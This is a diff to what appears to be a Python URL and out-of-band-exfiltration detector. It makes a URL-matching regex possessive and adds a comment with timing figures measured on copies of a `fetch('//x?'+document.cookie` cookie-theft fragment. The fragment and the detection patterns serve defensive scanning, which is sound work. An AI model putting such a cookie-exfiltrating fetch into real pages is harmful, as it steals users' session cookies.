@@ -76,8 +76,11 @@ OUT_OF_BAND_DNS = re.compile(
 )
 # What IDNA reads as a dot in a host name (ideographic and half-width full stops).
 _IDNA_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})
+# The scheme's run is possessive: no `:` can follow a shorter part of it, and trying each length
+# back from 31 at every letter of a value cost 1.55 ms per 31 KB of `fetch('//x?'+document.cookie`
+# copies (0.78 ms so; the same matches).
 _URL = re.compile(
-    r"([a-z][a-z0-9+.\-]{0,30}):(//?|(?=[\d\[]))([^\s\"'<>^`{|}]{0,2048})|(?<![a-z0-9.])//([^\s/\"'<>]{1,255})"
+    r"([a-z][a-z0-9+.\-]{0,30}+):(//?|(?=[\d\[]))([^\s\"'<>^`{|}]{0,2048})|(?<![a-z0-9.])//([^\s/\"'<>]{1,255})"
 )
 # Where a URL can be: a colon that a slash, a digit or a bracket follows, or the first slash of two.
 # `_URL` itself opens with a class of letters, so Python's engine tried it at every letter of a value
